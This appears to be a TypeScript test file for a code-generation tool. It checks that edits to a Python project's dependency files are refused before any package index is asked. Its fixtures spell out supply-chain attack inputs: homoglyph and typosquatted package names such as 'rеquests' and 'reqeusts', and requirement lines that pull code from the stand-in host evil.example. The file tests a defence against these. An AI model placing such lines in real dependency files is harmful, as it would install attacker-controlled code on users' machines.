/** What a person's edit asks to be installed, and in what the tests run: told by the built program, before anything happens. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type RunView, TestReport } from '../../src/pipeline/contracts.ts';
import { isolationWords } from '../../src/python/isolation/words.ts';
import type { RunSummary } from '../../src/terminal/summary.ts';
import {
  only,
  type Outcome,
  removeFolder,
  root,
  serve,
  type Site,
  sourcewright,
  temporaryFolder,
} from './program.ts';

const LIBRARY = join(root, 'test', 'fixtures', 'workspace', 'library.openapi.yaml');

interface Edit {
  readonly what: string;
  readonly file: 'requirements.txt' | 'requirements-dev.txt' | 'pyproject.toml';
  readonly change: (text: string) => string;
  readonly says: RegExp;
}

const line = (text: string) => (before: string) => `${before}${text}\n`;
const dependency = (text: string) => (before: string) =>
  before.replace('dependencies = [', `dependencies = [${JSON.stringify(text)}, `);

const EDITS: readonly Edit[] = [
  {
    what: 'a letter of another alphabet',
    file: 'requirements.txt',
    change: line('r\u0435quests==2.32.3'),
    says: /"\u0435" \(U\+0435\)/,
  },
  {
    what: 'an accent',
    file: 'requirements-dev.txt',
    change: line('r\u00e9quests==2.32.3'),
    says: /"\u00e9" \(U\+00E9\)/,
  },
  {
    what: 'a swapped letter',
    file: 'requirements.txt',
    change: line('reqeusts'),
    says: /imitation of "requests"/,
  },
  {
    what: 'a name of one company’s own',
    file: 'requirements.txt',
    change: line('acme-internal-client'),
    says: /anybody may own that name/,
  },
  {
    what: 'an address',
    file: 'requirements.txt',
    change: line('httpx @ https://evil.example/httpx.zip'),
    says: /not a package by name/,
  },
  {
    what: 'a repository',
    file: 'requirements.txt',
    change: line('git+https://evil.example/httpx'),
    says: /not a package by name/,
  },
  { what: 'a folder', file: 'requirements-dev.txt', change: line('-e .'), says: /not a package by name/ },
  {
    what: 'another index',
    file: 'requirements.txt',
    change: line('--index-url http://evil.example/simple'),
    says: /not a package by name/,
  },
  {
    what: 'a line that ends where none is seen to end',
    file: 'requirements.txt',
    change: line('httpx>=0.27\f-e .'),
    says: /not a package by name/,
  },
  {
    what: 'an address among what its users install',
    file: 'pyproject.toml',
    change: dependency('httpx @ https://evil.example/x'),
    says: /not a package by name/,
  },
  {
    what: 'an imitation among what its users install',
    file: 'pyproject.toml',
    change: dependency('htpx'),
    says: /imitation of "httpx"/,
  },
  {
    what: 'an unknown builder',
    file: 'pyproject.toml',
    change: (text) => text.replace('hatchling>=1.27,<2', 'hatchlinq'),
    says: /imitation of "hatchling"/,
  },
  {
    what: 'another source for a known name',
    file: 'pyproject.toml',
    change: line('[tool.uv.sources]\nhttpx = { path = "." }'),
    says: /tool\.uv\.sources in pyproject\.toml names a place/,
  },
];

describe('what is installed, and in what tests run', function () {
  this.timeout(600_000);
  let folder = '';
  let connector = '';
  let runDir = '';
  let site: Site;
  const asked: string[] = [];
  let env: Record<string, string> = {};

  const said = (outcome: Outcome): RunSummary => only(outcome) as unknown as RunSummary;

  before(async () => {
    folder = await temporaryFolder();
    site = await serve((request, response) => {
      asked.push(request.url ?? '');
      response.statusCode = 404;
      response.end();
    });
    const words = ['generate', LIBRARY, '--streams', 'books', '--approve', 'research', '--json'];
    const made = await sourcewright(words, { cwd: folder });
    assert.equal(made.exitCode, 3, made.stderr);
    connector = said(made).connector.dir ?? '';
    runDir = said(made).runDir ?? '';
    // From here on the index is one of ours, which notes what it is asked.
    env = {
      PIP_CONFIG_FILE: '/dev/null',
      PIP_INDEX_URL: `${site.url}/simple`,
      UV_INDEX_URL: `${site.url}/simple`,
    };
  });
  after(async () => {
    await site.close();
    await removeFolder(folder);
  });

  it('says in the report and on the terminal in what the tests ran', async () => {
    const ran = await sourcewright(['stage', 'test', '--run', 'latest'], { cwd: folder, env });
    const report = TestReport.parse(JSON.parse(await readFile(join(runDir, 'test-report.json'), 'utf8')));
    assert.equal(report.verdict, 'passed', ran.stderr);
    assert.ok(report.isolation !== undefined);
    assert.ok(
      (ran.stdout + ran.stderr).includes(isolationWords(report.isolation)),
      `${isolationWords(report.isolation)} in\n${ran.stdout}${ran.stderr}`,
    );
  });

  /** Runs the stage by hand, with this edit, and tells what kept it from running. */
  async function edited(
    file: Edit['file'],
    change: Edit['change'],
    more: Readonly<Record<string, string>> = {},
  ): Promise<string> {
    const path = join(connector, file);
    const before = await readFile(path, 'utf8');
    await writeFile(path, change(before));
    assert.notEqual(await readFile(path, 'utf8'), before);
    try {
      const words = ['stage', 'test', '--run', 'latest', '--json'];
      const outcome = await sourcewright(words, { cwd: folder, env: { ...env, ...more } });
      const { stages } = only(outcome) as unknown as Pick<RunView, 'stages'>;
      const test = stages.find(({ stage }) => stage === 'test');
      assert.equal(test?.state, 'paused', outcome.stderr);
      assert.equal(outcome.exitCode, 4, 'the run waits, but the stage that was asked for could not be run');
      return test.note;
    } finally {
      await writeFile(path, before);
    }
  }

  for (const { what, file, change, says } of EDITS) {
    it(`asks no index for ${what} in ${file}`, async () => {
      assert.match(await edited(file, change), says);
      assert.deepEqual(asked, []);
    });
  }

  it('asks the index for what the person allows', async () => {
    const allowed = { SOURCEWRIGHT_ALLOWED_PACKAGES: 'Acme.Internal_Client' };
    const said = await edited('requirements.txt', line('acme-internal-client'), allowed);
    assert.match(said, /could not be fetched/);
    assert.ok(asked.length > 0);
  });

  it('pauses where a sandbox is required and none works, and says what to install', () => {
    const words = [
      'generate',
      LIBRARY,
      '--streams',
      'books',
      '--out',
      join(folder, 'other'),
      '--auto',
      '--json',
    ];
    const program = [process.execPath, join(root, 'dist', 'cli.mjs'), ...words, '--isolation', 'require'];
    // A machine that lets nobody make namespaces; where this one does not anyway, it is one.
    const closed = 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"';
    const within = canMakeNamespaces()
      ? ['unshare', '--user', '--map-root-user', 'sh', '-c', closed, 'sh']
      : [];
    const [file = '', ...args] = [...within, ...program];
    // The index of before: the environment is there.
    const outcome = execFailing(file, args, folder, {});
    assert.equal(outcome.code, 4, outcome.stderr);
    const { pause } = JSON.parse(outcome.stdout) as RunSummary;
    assert.match(pause?.message ?? '', /not run without a sandbox, and there is none: /);
    assert.match(pause?.cure ?? '', /apt install bubblewrap/);
  });
});

function canMakeNamespaces(): boolean {
  try {
    execFileSync('unshare', ['--user', '--map-root-user', 'true'], { stdio: 'pipe' });
    return true;
  } catch {
    return false;
  }
}

function execFailing(
  file: string,
  args: readonly string[],
  cwd: string,
  env: Readonly<Record<string, string>>,
): { code: number | null; stdout: string; stderr: string } {
  try {
    const stdout = execFileSync(file, args, {
      cwd,
      env: { ...process.env, NO_COLOR: '1', ...env },
      encoding: 'utf8',
      stdio: 'pipe',
    });
    return { code: 0, stdout, stderr: '' };
  } catch (error) {
    const { status, stdout, stderr } = error as { status: number | null; stdout: string; stderr: string };
    return { code: status, stdout, stderr };
  }
}
